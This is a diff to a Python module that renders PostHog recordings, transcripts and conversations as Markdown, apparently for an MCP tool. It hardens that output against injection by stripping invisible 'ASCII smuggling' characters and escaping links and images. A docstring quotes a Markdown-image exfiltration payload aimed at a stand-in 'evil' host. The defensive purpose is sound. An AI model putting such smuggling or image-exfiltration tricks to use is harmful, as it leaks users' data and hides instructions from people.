@@ -11,7 +11,7 @@ than any backtick run inside them.
 from __future__ import annotations
 
 import re
-from collections.abc import Mapping, Sequence
+from collections.abc import Iterable, Iterator, Mapping, Sequence
 from datetime import UTC, datetime
 from typing import Any, cast
 
@@ -42,20 +42,33 @@ CONVERSATION_STATUSES: Mapping[str, str] = {
     "canceling": "canceling",
 }
 
-_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
+_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0/C1 controls (tab and newline kept)
+    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"  # soft hyphen, joiners, Mongolian selectors
+    "\u200b-\u200f\u202a-\u202e\u2060-\u206f"  # ZW*, bidi marks/overrides/isolates, word joiner, invisibles
+    "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb"  # fillers, variation selectors, BOM, annotations
+    "\U0001d173-\U0001d17a\U000e0000-\U000e007f\U000e0100-\U000e01ef]"  # music format, tags block, selectors
+)
+"""Characters that are invisible or reorder text: they could hide instructions ("ASCII smuggling" in the tags
+block) or disguise what a person reads, so they are dropped from everything rendered from PostHog text."""
 _LINE_BREAKS = re.compile(r"\r\n|[\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
 _WHITESPACE = re.compile(r"\s+")
 _BLOCK_START = re.compile(r"^(\s*)([#>`~<|])")
 _UNDERLINE = re.compile(r"^(\s*)([=\-_*+])(?=[\s=\-_*+]*$)")
 _BACKTICKS = re.compile(r"`+")
+_INLINE_ACTIVE = re.compile(r"[\\<\[]")
+"""Backslash, ``<`` and ``[``: escaped inside data, so no raw HTML, autolink, link, image (a remote image is an
+exfiltration channel: ``![x](http://evil/?d=…)`` is fetched by the renderer) or reference definition forms."""
+NAME_LIMIT = 200
+"""Longest resource name, title or list description built from PostHog text."""
 
 
 # -- quoting -----------------------------------------------------------------------------------------------------
 
 
 def _clean(text: str) -> str:
-    """Unify line breaks (every kind becomes ``\\n``, so each gets quoted) and drop control and bidi characters
-    that could hide or reorder text."""
+    """Unify line breaks (every kind becomes ``\\n``, so each gets quoted) and drop control, invisible and bidi
+    characters that could hide or reorder text."""
     return _CONTROL.sub("", _LINE_BREAKS.sub("\n", text))
 
 
@@ -67,9 +80,20 @@ def one_line(text: str, limit: int | None = None) -> str:
     return flat
 
 
+def link_name(text: str) -> str:
+    """A resource link's or list entry's name, title or description: plain text, one line, at most NAME_LIMIT."""
+    return one_line(text, NAME_LIMIT)
+
+
+def inline(text: str) -> str:
+    """Escape what would be live Markdown anywhere in a line: raw HTML, links and images stay visible text."""
+    return _INLINE_ACTIVE.sub(lambda m: "\\" + m.group(0), text)
+
+
 def neutralise(line: str) -> str:
-    """Escape Markdown that would act at the start of a line (heading, fence, quote, HTML, underline)."""
-    escaped = _BLOCK_START.sub(r"\1\\\2", line)
+    """Escape Markdown that would act inside a line (HTML, links, images) or at its start (heading, fence, quote,
+    underline)."""
+    escaped = _BLOCK_START.sub(r"\1\\\2", inline(line))
     return _UNDERLINE.sub(r"\1\\\2", escaped)
 
 
@@ -185,22 +209,38 @@ def _recording_duration(recording: Mapping[str, Any]) -> str | None:
     return None
 
 
-def transcript_lines(recording: Mapping[str, Any]) -> list[str]:
-    """One quoted line per segment: ``> [00:01:23] Alice: text``; segment text is kept to one line."""
+def _bounded(chunks: Iterable[Sequence[str]], limit: int | None) -> list[str]:
+    """The lines of ``chunks`` until they pass ``limit`` characters: later chunks are never rendered, so a huge
+    object costs no more work than the budget it will be cut to (``fit_document`` marks the cut)."""
     lines: list[str] = []
+    used = 0
+    for chunk in chunks:
+        lines += chunk
+        used += sum(len(line) + 1 for line in chunk)
+        if limit is not None and used > limit:
+            break
+    return lines
+
+
+def _segment_lines(recording: Mapping[str, Any]) -> Iterator[list[str]]:
     for segment in _mappings(recording, "transcript_segments"):
         text = _text(segment, "text")
         if text is None:
             continue
-        speaker = one_line(_text(segment, "speaker") or "Unknown speaker")
-        lines.append(f"> {clock(_number(segment, 'timestamp'))} {speaker}: {one_line(text)}")
+        speaker = inline(one_line(_text(segment, "speaker") or "Unknown speaker"))
+        yield [f"> {clock(_number(segment, 'timestamp'))} {speaker}: {inline(one_line(text))}"]
+
+
+def transcript_lines(recording: Mapping[str, Any], limit: int | None = None) -> list[str]:
+    """One quoted line per segment: ``> [00:01:23] Alice: text``; segment text is kept to one line."""
+    lines = _bounded(_segment_lines(recording), limit)
     if not lines and _text(recording, "transcript_text"):
         lines = quote(cast(str, recording["transcript_text"]))
     return lines
 
 
-def _transcript_section(recording: Mapping[str, Any], heading: str) -> list[str]:
-    lines = transcript_lines(recording)
+def _transcript_section(recording: Mapping[str, Any], heading: str, limit: int | None) -> list[str]:
+    lines = transcript_lines(recording, limit)
     count = len(_mappings(recording, "transcript_segments"))
     out = [f"{heading} ({count} segment{'s' if count != 1 else ''})" if count else heading, ""]
     if lines:
@@ -214,22 +254,27 @@ def _transcript_section(recording: Mapping[str, Any], heading: str) -> list[str]
     return out
 
 
-def _tasks(recording: Mapping[str, Any]) -> list[str]:
+def _task_lines(tasks: Sequence[Mapping[str, Any]]) -> Iterator[list[str]]:
+    for number, task in enumerate(tasks, start=1):
+        out = [f"> {number}. {neutralise(one_line(_text(task, 'title') or '(untitled task)'))}"]
+        if assignee := _text(task, "assignee"):
+            out.append(f">    Assignee: {inline(one_line(assignee))}")
+        if description := _text(task, "description"):
+            out += [f">    {line[2:]}" if line != ">" else ">" for line in quote(description)]
+        yield out
+
+
+def _tasks(recording: Mapping[str, Any], limit: int | None) -> list[str]:
     tasks = _mappings(recording, "extracted_tasks")
     if not tasks:
         return []
-    out = [f"## Tasks ({len(tasks)})", ""]
-    for number, task in enumerate(tasks, start=1):
-        out.append(f"> {number}. {neutralise(one_line(_text(task, 'title') or '(untitled task)'))}")
-        if assignee := _text(task, "assignee"):
-            out.append(f">    Assignee: {one_line(assignee)}")
-        if description := _text(task, "description"):
-            out += [f">    {line[2:]}" if line != ">" else ">" for line in quote(description)]
-    return [*out, ""]
+    return [f"## Tasks ({len(tasks)})", "", *_bounded(_task_lines(tasks), limit), ""]
 
 
-def render_recording(recording: Mapping[str, Any], *, project_id: str) -> str:
-    """The whole recording as a document: facts first, then participants, summary, tasks and transcript."""
+def render_recording(recording: Mapping[str, Any], *, project_id: str, limit: int | None = None) -> str:
+    """The whole recording as a document: facts first, then participants, summary, tasks and transcript.
+
+    With ``limit``, long lists stop being rendered once the document passes that many characters."""
     participants = [p for p in _items(recording, "participants") if isinstance(p, str) and p.strip()]
     video = _text(recording, "video_url")
     size = _number(recording, "video_size_bytes")
@@ -258,18 +303,20 @@ def render_recording(recording: Mapping[str, Any], *, project_id: str) -> str:
     if error := _text(recording, "error_message"):
         out += ["## Error", "", *quote(error), ""]
     out += [f"## Participants ({len(participants)})", ""]
-    out += [f"> - {neutralise(one_line(p))}" for p in participants] or ["_None listed._"]
+    out += _bounded(([f"> - {neutralise(one_line(p))}"] for p in participants), limit) or ["_None listed._"]
     out.append("")
     if summary := _text(recording, "summary"):
         out += ["## Summary", "", *quote(summary), ""]
-    out += _tasks(recording)
+    out += _tasks(recording, limit)
     if notes := _text(recording, "notes"):
         out += ["## Notes", "", *quote(notes), ""]
-    out += _transcript_section(recording, "## Transcript")
+    out += _transcript_section(recording, "## Transcript", limit)
     return "\n".join(out).rstrip() + "\n"
 
 
-def render_transcript(recording: Mapping[str, Any], *, project_id: str, recording_uri: str) -> str:
+def render_transcript(
+    recording: Mapping[str, Any], *, project_id: str, recording_uri: str, limit: int | None = None
+) -> str:
     """The transcript alone, with just enough context to know whether more is coming."""
     out = [
         "# Meeting transcript",
@@ -283,7 +330,7 @@ def render_transcript(recording: Mapping[str, Any], *, project_id: str, recordin
         *_field("Status", _enum(_text(recording, "status"), RECORDING_STATUSES)),
         *_field("Started", when(_text(recording, "started_at"))),
         "",
-        *_transcript_section(recording, "## Transcript"),
+        *_transcript_section(recording, "## Transcript", limit),
     ]
     return "\n".join(out).rstrip() + "\n"
 
@@ -348,7 +395,7 @@ def _message(number: int, message: Mapping[str, Any], tool_names: Mapping[str, s
     return [f"### {number}. {label}", "", line, ""]
 
 
-def render_conversation(conversation: Mapping[str, Any], *, project_id: str) -> str:
+def render_conversation(conversation: Mapping[str, Any], *, project_id: str, limit: int | None = None) -> str:
     """The dialogue in order; every message appears, non-text ones summarised in one line."""
     messages = _mappings(conversation, "messages")
     user = conversation.get("user")
@@ -384,6 +431,26 @@ def render_conversation(conversation: Mapping[str, Any], *, project_id: str) -> 
     if not messages:
         out.append("_No messages yet._")
     names = _tool_names(messages)
-    for number, message in enumerate(messages, start=1):
-        out += _message(number, message, names)
+    out += _bounded((_message(n, message, names) for n, message in enumerate(messages, start=1)), limit)
     return "\n".join(out).rstrip() + "\n"
+
+
+# -- size budget -------------------------------------------------------------------------------------------------
+
+
+def cut_notice(budget: int, shown: int, how: str) -> str:
+    return (
+        f"_[Cut: this document is longer than the resource budget of {budget:,} characters "
+        f"(POSTHOG_MCP_RESULT_BUDGET_CHARS); only its first {shown:,} are shown. {how}]_"
+    )
+
+
+def fit_document(markdown: str, budget: int, how: str) -> str:
+    """The document if it fits ``budget`` characters, else its first whole lines and a marked notice saying how
+    to get the rest. Cut at a line break, so a quoted line is never left half-open."""
+    if len(markdown) <= budget:
+        return markdown
+    room = max(0, budget - len(cut_notice(budget, budget, how)) - 2)
+    head = markdown[:room]
+    head = head[: head.rfind("\n") + 1] if "\n" in head else ""
+    return head + "\n" + cut_notice(budget, len(head), how) + "\n"
